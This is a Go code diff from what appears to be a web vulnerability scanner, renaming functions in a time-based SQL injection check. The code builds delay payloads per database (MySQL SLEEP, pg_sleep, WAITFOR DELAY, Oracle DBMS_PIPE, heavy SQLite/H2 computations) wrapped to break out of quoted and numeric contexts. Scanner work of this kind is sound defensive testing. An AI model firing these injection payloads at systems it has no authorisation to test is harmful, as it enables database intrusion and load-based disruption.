@@ -15,7 +15,7 @@ import (
 // Slow is the check by time.
 var Slow = &activescan.Rule{ID: "sqlinjection", FindingRules: []*finding.Rule{byTime}, Profile: scan.Standard,
 	Slow:       true,
-	Concurrent: true, AcceptsPoint: wants, ProbePoint: slow}
+	Concurrent: true, AcceptsPoint: acceptsPoint, ProbePoint: probeDelay}
 
 // A delay is a value that keeps a database busy for some time.
 type delay struct {
@@ -27,15 +27,15 @@ type delay struct {
 	make func(v string, seconds float64) string
 }
 
-// both puts an expression behind a number and, with an operator, between two strings.
-func both(v, operator, expression string) string {
+// inBothContexts puts an expression behind a number and, with an operator, between two strings.
+func inBothContexts(v, operator, expression string) string {
 	part := operator + expression + operator
 	return v + "-" + expression + "/*'" + part + "'\"" + part + "\"*/"
 }
 
-// unquoted puts an expression behind a number, for filters that take no quotes; empty
+// withoutQuotes puts an expression behind a number, for filters that take no quotes; empty
 // where the value is no number and no date.
-func unquoted(v, expression string) string {
+func withoutQuotes(v, expression string) string {
 	if v[0] < '0' || v[0] > '9' {
 		return ""
 	}
@@ -46,41 +46,44 @@ func unquoted(v, expression string) string {
 // each row: it is a table of its own that depends on nothing.
 var delays = []delay{
 	{"mysql", activescan.PreciseSleep, func(v string, n float64) string {
-		return both(v, "-", fmt.Sprintf("(SELECT 0 FROM (SELECT SLEEP(%g))a)", n))
+		return inBothContexts(v, "-", fmt.Sprintf("(SELECT 0 FROM (SELECT SLEEP(%g))a)", n))
 	}},
 	{"mysql", activescan.PreciseSleep, func(v string, n float64) string {
-		return unquoted(v, fmt.Sprintf("(SELECT 0 FROM (SELECT SLEEP(%g))a)", n))
+		return withoutQuotes(v, fmt.Sprintf("(SELECT 0 FROM (SELECT SLEEP(%g))a)", n))
 	}},
 	{"postgres", activescan.PreciseSleep, func(v string, n float64) string {
-		return both(v, "||", fmt.Sprintf("(SELECT COUNT(*) FROM (SELECT pg_sleep(%g))a)", n))
+		return inBothContexts(v, "||", fmt.Sprintf("(SELECT COUNT(*) FROM (SELECT pg_sleep(%g))a)", n))
 	}},
 	{"mssql", activescan.PreciseSleep, func(v string, n float64) string {
 		wait := fmt.Sprintf(" WAITFOR DELAY '0:0:%g' -- ", n)
 		return v + wait + "';" + wait
 	}},
 	{"oracle", activescan.WholeSeconds, func(v string, n float64) string {
-		return both(v, "||", fmt.Sprintf("(SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(97)||CHR(98),%g) FROM DUAL)", n))
+		return inBothContexts(v, "||", fmt.Sprintf("(SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(97)||CHR(98),%g) "+
+			"FROM DUAL)", n))
 	}},
 	{"sqlite", activescan.Computation, func(v string, n float64) string {
-		return both(v, "||", fmt.Sprintf("(SELECT LENGTH(LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(%.0f))))))", n*75_000_000))
+		return inBothContexts(v, "||", fmt.Sprintf("(SELECT LENGTH(LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(%.0f))))))",
+			n*75_000_000))
 	}},
 	{"hsqldb", activescan.Computation, func(v string, n float64) string {
-		return both(v, "||", fmt.Sprintf("(SELECT COUNT(*) FROM (VALUES(0)) WHERE "+
+		return inBothContexts(v, "||", fmt.Sprintf("(SELECT COUNT(*) FROM (VALUES(0)) WHERE "+
 			"REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY(CHAR(65)||CHAR(69)||CHAR(83),NULL),0),%.0f),NULL) IS NOT NULL)",
 			n*400_000_000))
 	}},
 	{"h2", activescan.Computation, func(v string, n float64) string {
-		return both(v, "||", fmt.Sprintf("(SELECT COUNT(*) FROM SYSTEM_RANGE(1,%.0f) WHERE MOD(X,3)=5)", n*20_000_000))
+		return inBothContexts(v, "||", fmt.Sprintf("(SELECT COUNT(*) FROM SYSTEM_RANGE(1,%.0f) WHERE "+
+			"MOD(X,3)=5)", n*20_000_000))
 	}},
 }
 
-// slow asks values; names of parameters only under the full profile, because nothing else
+// probeDelay asks values; names of parameters only under the full profile, because nothing else
 // may be asked meanwhile, and few applications put them into statements.
-func slow(p *activescan.Probe) error {
+func probeDelay(p *activescan.Probe) error {
 	if p.AlreadyFound(Mark) || p.Point.Names() && !p.Target.Profile.Allows(scan.Full) {
 		return nil
 	}
-	for _, d := range known(p) {
+	for _, d := range knownDelays(p) {
 		if p.AlreadyFound(refusal) && strings.Contains(d.make(p.OriginalValue(), 1), "'") {
 			continue
 		}
@@ -104,9 +107,9 @@ func slow(p *activescan.Probe) error {
 	return nil
 }
 
-// known are the delays of the databases that statements of the target were found to be
+// knownDelays are the delays of the databases that statements of the target were found to be
 // for; without any, those of the databases that were seen in errors; else all.
-func known(p *activescan.Probe) []delay {
+func knownDelays(p *activescan.Probe) []delay {
 	for _, how := range []string{"proven:", "dbms:"} {
 		var out []delay
 		for _, d := range delays {
